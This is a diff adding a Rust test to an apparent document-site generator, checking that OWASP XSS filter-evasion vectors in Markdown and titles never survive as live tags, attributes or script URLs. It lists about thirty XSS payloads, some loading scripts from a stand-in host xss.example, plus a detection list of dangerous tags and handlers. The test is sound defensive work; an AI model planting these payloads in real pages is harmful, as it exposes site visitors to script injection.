@@ -297,3 +297,80 @@ fn submodules_and_a_tag_without_qms_toml() {
     assert!(repo.path().join("site/v1/documents/SOP-1.html").is_file());
     assert!(!repo.path().join("site/v0").exists(), "the tag before qms.toml is skipped");
 }
+
+/// OWASP XSS filter-evasion vectors that apply to Markdown and HTML, in a document body and in
+/// its title: none survives into any page as a live tag, attribute or script URL.
+#[test]
+fn owasp_filter_evasion_vectors_do_not_survive() {
+    let vectors = [
+        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
+        "<IMG SRC=\"javascript:alert('XSS');\">",
+        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
+        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+        "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
+        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
+        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+        "<svg/onload=alert('XSS')>",
+        "<svg><script>alert(1)</script></svg>",
+        "<BASE HREF=\"javascript:alert('XSS');//\">",
+        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+        "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
+        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
+        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" AllowScriptAccess=\"always\"></EMBED>",
+        "<a href=\"javas&#99;ript:alert(1)\">click</a>",
+        "[markdown link](javascript:alert(1))",
+        "[encoded](jav&#x61;script:alert(1))",
+        "![image](javascript:alert(1))",
+        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
+        "<details open ontoggle=alert(1)>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    ];
+    let qms = TestQms::new();
+    for (n, vector) in vectors.iter().enumerate() {
+        let title = vector.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', " ");
+        qms.doc(&format!("SOP-{n}"), &format!("title: \"{title}\""), &format!("Before.\n\n{vector}\n\nAfter."));
+    }
+    let out = qms.join("site");
+    let run = qms.run(&["build", "--today", TODAY, "--out", &out.to_string_lossy()]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let mut pages = 0;
+    for entry in walkdir::WalkDir::new(&out) {
+        let entry = entry.unwrap();
+        if !entry.file_type().is_file() || entry.path().extension().is_none_or(|e| e != "html") {
+            continue;
+        }
+        pages += 1;
+        let html = std::fs::read_to_string(entry.path()).unwrap().to_lowercase();
+        for tag in
+            ["<script>alert", "<script/", "<iframe", "<base ", "<object", "<embed", "<details open", "<svg", "<math"]
+        {
+            assert!(!html.contains(tag), "{tag} in {}", entry.path().display());
+        }
+        for attribute in [
+            "xss.example",
+            "url=javascript",
+            "action=\"javascript",
+            "onload",
+            "onerror",
+            "ontoggle",
+            "style=\"width: expression",
+            "href=\"javascript:",
+            "src=\"javascript:",
+            "href=\"data:",
+            "src=\"data:",
+        ] {
+            assert!(!inside_a_tag(&html, attribute), "{attribute} in a tag in {}", entry.path().display());
+        }
+    }
+    assert!(pages > vectors.len(), "{pages} pages checked");
+}
